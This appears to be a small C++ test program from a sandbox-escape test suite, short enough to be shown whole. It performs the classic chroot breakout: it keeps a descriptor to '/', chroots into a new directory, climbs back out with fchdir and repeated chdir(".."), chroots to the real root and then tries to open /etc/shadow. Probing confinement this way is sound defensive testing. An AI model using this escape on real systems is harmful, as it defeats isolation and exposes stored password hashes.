// The classic way out of a chroot: another one, with an open folder left outside of it.
#include <fcntl.h>
#include <sys/stat.h>

#include "attempt.hpp"

int main() {
  const int outside = open("/", O_RDONLY);
  mkdir("jail", 0700);
  attempt("chroot", chroot("jail"));
  if (fchdir(outside) != 0) return 1;
  for (int i = 0; i < 100; ++i) (void)!chdir("..");
  attempt("chroot to the top", chroot("."));
  attempt("shadow", open("etc/shadow", O_RDONLY));
  return escaped;
}
